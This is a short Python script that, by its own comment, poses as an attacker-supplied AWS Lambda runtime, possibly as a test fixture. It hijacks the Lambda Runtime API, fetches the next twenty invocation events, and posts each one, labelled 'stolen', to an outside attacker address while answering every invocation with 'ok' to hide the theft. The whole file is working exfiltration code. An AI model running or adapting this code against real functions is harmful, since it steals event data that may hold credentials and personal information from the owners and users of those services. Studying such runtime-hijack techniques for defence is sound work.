# Stands for a runtime that an attacker brings: answers the invocation whose id it is given, then takes the next ones and
# sends each event out. Ends after twenty invocations.
import http.client
import json
import os
import sys

ATTACKER = ("203.0.113.7", 443)
PREFIX = "/2018-06-01/runtime/invocation/"
host, port = os.environ["AWS_LAMBDA_RUNTIME_API"].split(":")
api = http.client.HTTPConnection(host, int(port))


def call(method, path, body=None):
    api.request(method, PREFIX + path, body)
    answer = api.getresponse()
    return answer.headers, answer.read()


call("POST", sys.argv[1] + "/response", b'"ok"')
out = http.client.HTTPConnection(*ATTACKER)
for _ in range(20):
    headers, event = call("GET", "next")
    out.request("POST", "/event", json.dumps({"stolen": event.decode()}))
    out.getresponse().read()
    call("POST", headers["Lambda-Runtime-Aws-Request-Id"] + "/response", b'"ok"')
